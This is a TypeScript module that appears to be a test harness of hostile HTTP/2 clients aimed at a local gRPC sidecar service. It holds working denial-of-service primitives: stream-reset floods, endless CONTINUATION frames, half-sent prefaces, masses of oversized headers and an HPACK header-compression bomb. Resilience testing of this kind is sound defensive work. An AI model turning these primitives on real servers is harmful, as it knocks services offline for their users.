// Clients that mean harm. They speak as much of HTTP/2 as they need, over bare sockets: libraries would stop themselves.

import { once } from 'node:events';
import { connect, type Socket } from 'node:net';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const types = { data: 0, headers: 1, resetStream: 3, settings: 4, ping: 6, continuation: 9 } as const;
const HEAD_BYTES = 9;
const ACK = 1;
export const flags = { none: 0, endStream: 1, endHeaders: 4 } as const;
const CANCEL = 8;

function frame(type: keyof typeof types, flag: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(HEAD_BYTES);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = types[type];
  head[4] = flag;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header that is written out, and not remembered (RFC 7541 §6.2.2). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

/** One that is remembered from now on (§6.2.1). */
function remembered(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x40]), text(name), text(value)]);
}

/** What was remembered last (§6.1): one byte stands for all of it. */
const lastRemembered = 0x80 | 62;

function text(value: string): Buffer {
  return Buffer.concat([integer(value.length), Buffer.from(value)]);
}

/** With a prefix of seven bits (§5.1). */
function integer(value: number): Buffer {
  if (value < 127) return Buffer.from([value]);
  const bytes = [127];
  let rest = value - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  bytes.push(rest);
  return Buffer.from(bytes);
}

const requestHeaders = Buffer.concat([
  literal(':method', 'POST'),
  literal(':scheme', 'http'),
  literal(':path', '/TaskHubSidecarService/StartInstance'),
  literal(':authority', 'localhost'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);

/** One connection. It answers the server's pings, so that it counts as alive, and counts the streams that were reset. */
export class Attacker {
  readonly socket: Socket;
  readonly resetStreams = new Set<number>();
  #nextStream = 1;
  #read: Buffer = Buffer.alloc(0);

  private constructor(socket: Socket) {
    this.socket = socket;
    socket.on('error', () => undefined);
    socket.on('data', (bytes: Buffer) => {
      this.#read = Buffer.concat([this.#read, bytes]);
      while (this.#takeFrame());
    });
  }

  #takeFrame(): boolean {
    if (this.#read.length < HEAD_BYTES) return false;
    const end = HEAD_BYTES + this.#read.readUIntBE(0, 3);
    if (this.#read.length < end) return false;
    const [type, flag] = [this.#read[3], this.#read[4]];
    if (type === types.ping && flag !== ACK) {
      this.#write(frame('ping', ACK, 0, this.#read.subarray(HEAD_BYTES, end)));
    }
    if (type === types.resetStream) this.resetStreams.add(this.#read.readUInt32BE(5));
    this.#read = this.#read.subarray(end);
    return true;
  }

  #write(bytes: Buffer): void {
    if (!this.isCutOff) this.socket.write(bytes, () => undefined);
  }

  /** `greeting`: how much of the beginning it sends. */
  static async connect(address: string, greeting: 'none' | 'half' | 'all' = 'all'): Promise<Attacker> {
    const { hostname, port } = new URL(`http://${address}`);
    const socket = connect(Number(port), hostname);
    const attacker = new Attacker(socket);
    await once(socket, 'connect');
    if (greeting === 'half') socket.write(PREFACE.subarray(0, 10));
    if (greeting === 'all') socket.write(Buffer.concat([PREFACE, frame('settings', 0, 0, Buffer.alloc(0))]));
    return attacker;
  }

  get isCutOff(): boolean {
    return this.socket.destroyed || this.socket.closed || this.socket.readableEnded;
  }

  /** Begins a call. Gives its stream. */
  begin(more: Buffer = Buffer.alloc(0), flag: number = flags.endHeaders): number {
    const stream = this.#nextStream;
    this.#nextStream += 2;
    this.#write(frame('headers', flag, stream, Buffer.concat([requestHeaders, more])));
    return stream;
  }

  /** More headers of a call whose headers have not ended. */
  goOn(stream: number, headers: Buffer): void {
    this.#write(frame('continuation', flags.none, stream, headers));
  }

  send(stream: number, bytes: Buffer): void {
    this.#write(frame('data', flags.none, stream, bytes));
  }

  reset(stream: number): void {
    const code = Buffer.alloc(4);
    code.writeUInt32BE(CANCEL);
    this.#write(frame('resetStream', 0, stream, code));
  }

  /** Waits until the server, or the kernel, has room for more; at once when this was cut off. */
  async drained(): Promise<void> {
    if (this.isCutOff || !this.socket.writableNeedDrain) return;
    await Promise.race([once(this.socket, 'drain'), once(this.socket, 'close')]).catch(() => undefined);
  }

  close(): void {
    this.socket.destroy();
  }
}

/** So many headers of that size, each another one. */
export function manyHeaders(count: number, bytes: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => literal(`x-${i}`, 'x'.repeat(bytes))));
}

/** A header of that size once, and then by one byte each so many times. */
export function headerBomb(count: number, bytes: number): Buffer {
  return Buffer.concat([remembered('x-bomb', 'x'.repeat(bytes)), Buffer.alloc(count, lastRemembered)]);
}
